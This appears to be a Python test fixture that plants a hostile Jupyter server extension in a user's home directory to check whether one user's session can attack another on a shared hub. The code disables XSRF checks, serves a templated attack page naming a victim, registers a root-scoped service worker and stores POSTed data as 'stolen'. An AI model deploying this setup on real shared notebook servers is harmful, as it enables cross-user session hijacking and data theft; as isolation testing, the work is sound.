"""A scholar whose session attacks whoever opens it: a server of their own making, and its page."""

from pathlib import Path

# Loaded by the session from its scholar's own configuration, as anybody may write it.
_CONFIG = """
import sys
sys.path.insert(0, {home!r})
c.ServerApp.jpserver_extensions = {{"evil_part": True}}
"""
_PART = """
import json
from pathlib import Path
from tornado.web import RequestHandler

HERE = Path({home!r})

class Evil(RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def get(self):
        self.set_header("Content-Type", "text/html")
        self.finish((HERE / "evil.html").read_text())

    def post(self):
        (HERE / "stolen.json").write_bytes(self.request.body)

class Worker(Evil):
    def get(self):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish("self.addEventListener('fetch', function () {{}});")

def _jupyter_server_extension_points():
    return [{{"module": "evil_part"}}]

def _load_jupyter_server_extension(app):
    base = app.base_url
    app.web_app.add_handlers(".*$", [(base + "evil", Evil), (base + "worker.js", Worker)])
"""
_PAGE = Path(__file__).with_name("hostile.html")


def arm(home: Path, *, hub: str, pages: str, victim: str) -> None:
    """Put the attack into a scholar's home, before their session starts."""
    words = {"hub": repr(hub), "pages": repr(pages), "victim": repr(victim)}
    (home / ".jupyter").mkdir(parents=True, exist_ok=True)
    (home / ".jupyter" / "jupyter_server_config.py").write_text(_CONFIG.format(home=str(home)))
    (home / "evil_part.py").write_text(_PART.format(home=str(home)))
    (home / "evil.html").write_text(_PAGE.read_text() % words)
